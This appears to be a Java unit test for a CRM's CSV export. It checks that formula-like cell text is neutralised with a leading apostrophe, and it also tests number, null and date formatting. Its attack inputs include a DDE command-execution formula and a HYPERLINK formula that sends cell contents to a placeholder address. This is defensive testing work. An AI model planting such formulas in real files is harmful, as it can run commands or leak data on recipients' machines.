package org.advocacycrm.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"click\")",
                "+1+1",
                "+49 30 1234",
                "-2+3",
                "-6",
                "@SUM(1+1)",
                "\t=1+1",
                "\r=1+1",
                "=\"=\"&1"
            })
    void disarmsTextThatASpreadsheetWouldRun(String attack) throws IOException {
        var cell = written(Cell.text(attack)).strip();

        assertThat(cell)
                .satisfiesAnyOf(
                        text -> assertThat(text).startsWith("'" + attack.charAt(0)),
                        text -> assertThat(text).startsWith("\"'" + attack.charAt(0)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Anna = Bob", "a-b", "me@example.org", "1+1", "'quoted'", " =1"})
    void leavesHarmlessTextAsItIs(String text) throws IOException {
        assertThat(written(Cell.text(text))).isEqualTo(text + "\r\n");
    }

    @Test
    void keepsNegativeNumbersNumbers() throws IOException {
        assertThat(written(Cell.number(-6L))).isEqualTo("-6\r\n");
        assertThat(written(Cell.number(-6.25))).isEqualTo("-6.25\r\n");
        assertThat(written(Cell.number(new BigDecimal("-0.00001")))).isEqualTo("-0.00001\r\n");
    }

    @Test
    void printsEveryDigitOfANumber() throws IOException {
        assertThat(written(Cell.number(39.83976693372177))).isEqualTo("39.83976693372177\r\n");
        assertThat(written(Cell.number(1.0e-5))).isEqualTo("0.000010\r\n");
    }

    @Test
    void leavesEmptyWhatIsNotKnown() throws IOException {
        var writer = new StringWriter();
        try (var table = new CsvTable(writer, "a", "b", "c", "d")) {
            table.row(List.of(Cell.number((Double) null), Cell.text(null), Cell.date(null), Cell.number(0L)));
        }

        assertThat(writer.toString()).isEqualTo("\uFEFFa,b,c,d\r\n,,,0\r\n");
    }

    @Test
    void writesDatesAsIsoDates() throws IOException {
        assertThat(written(Cell.date(LocalDate.of(2026, 11, 21)))).isEqualTo("2026-11-21\r\n");
    }

    private static String written(Cell cell) throws IOException {
        var writer = new StringWriter();
        try (var table = new CsvTable(writer, "column")) {
            table.row(List.of(cell));
        }
        return writer.toString().substring("\uFEFFcolumn\r\n".length());
    }
}
